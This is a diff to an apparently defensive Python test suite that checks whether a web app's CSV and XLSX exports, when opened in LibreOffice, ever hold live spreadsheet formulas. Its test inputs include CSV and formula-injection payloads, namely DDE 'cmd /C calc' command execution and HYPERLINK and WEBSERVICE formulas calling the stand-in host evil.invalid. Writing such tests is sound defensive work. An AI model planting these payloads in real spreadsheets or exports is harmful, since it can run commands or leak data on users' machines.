@@ -44,8 +44,8 @@ INSIDE = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.invalid","甲")', 
 BEFORE = ("", "'", "''", '"', " ", "\u3000", "\xa0", "\ufeff", "\u200b", "\0", "\x01", "﹦", "'\t")
 #: Every sign with something behind it, and one sign behind whatever hides it.
 TEXTS = (
-    *(f"{sign}{inside}" for sign, inside in itertools.product(SIGNS, INSIDE)),
     *(f"{before}=1+1" for before in BEFORE),
+    *(f"{sign}{inside}" for sign, inside in itertools.product(SIGNS, INSIDE)),
     *(f"{before}@SUM(1)" for before in BEFORE),
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.invalid\")", "-2+3+cmd|' /C calc'!A0",
     ";=1+1", ",=1+1", "\n=1+1", "=1+1\n=2+2", "%0A=1+1", "＝ＳＵＭ（Ａ１）",
@@ -53,8 +53,8 @@ TEXTS = (
 KINDS = {"csv": "text/csv", "xlsx": "spreadsheetml.sheet"}
 #: In CSV a formula begins with one of these, whatever is unseen before it.
 RUNS = "=+-@＝＋－＠﹦"
-UNSEEN = " \t\r\n\u3000\xa0\ufeff\u200b\0\x01"
-ANSWERS = ("", "?csv=1", "?shape=csv", "?shape=xlsx")
+UNSEEN = " \t\r\n\u3000\xa0\ufeff\u200b\0\x01\x02"
+ANSWERS = ("?csv=1", "?shape=csv", "?shape=xlsx")
 MARCH = Month(2031, 3)
 #: Found once: it takes a thousand questions.
 KNOWN: list[Door] = []
@@ -141,8 +141,7 @@ def _document(text: str) -> Document:
 def _doors(stage: Stage, addresses: Iterable[str]) -> Iterator[Door]:
     """Every address that answers with a file, whatever it is asked with; and forms for files."""
     if not KNOWN:
-        asked = [Door(f"{url}{query}") for url in addresses for query in ANSWERS]
-        KNOWN.extend(door for door in asked if _file(door.ask(stage))[1])
+        KNOWN.extend(found for url in addresses for found in _found(stage, url))
     yield from KNOWN
     for shape in KINDS:
         yield Door(reverse("admin:stats_figure_export"), {"shape": shape, "since": "", "until": ""})
@@ -151,6 +150,15 @@ def _doors(stage: Stage, addresses: Iterable[str]) -> Iterator[Door]:
     told = json.dumps([dict(zip(names, slip, strict=True)) for slip in slips])
     yield Door(reverse("admin:departments_user_slips"), {"slips": told})
     yield from _actions(stage)
+
+
+def _found(stage: Stage, url: str) -> list[Door]:
+    """The address as it is, or with each of the questions by which a page becomes a file."""
+    if _file(Door(url).ask(stage))[1]:
+        shapes = ("?shape=csv", "?shape=xlsx") if "/export/" in url else ("",)
+        return [Door(f"{url}{shape}") for shape in shapes]
+    asked = (Door(f"{url}{query}") for query in ANSWERS)
+    return [door for door in asked if _file(door.ask(stage))[1]]
 
 
 def _addresses(stage: Stage) -> Iterator[str]:
@@ -233,7 +241,7 @@ def _opened(files: list[tuple[str, bytes]], scale: float) -> Result:
             tally.tried += 1
             flat = path.with_suffix(".fods")
             if not flat.exists():
-                tally.complain("LibreOffice did not open it", path.name)
+                tally.complain("LibreOffice did not open it", path.read_bytes()[:300])
             elif "table:formula=" in flat.read_text("utf-8"):
                 tally.complain("a formula in LibreOffice", path.read_bytes()[:300])
     return tally.result("of those files, opened in LibreOffice", "no cell is a formula")
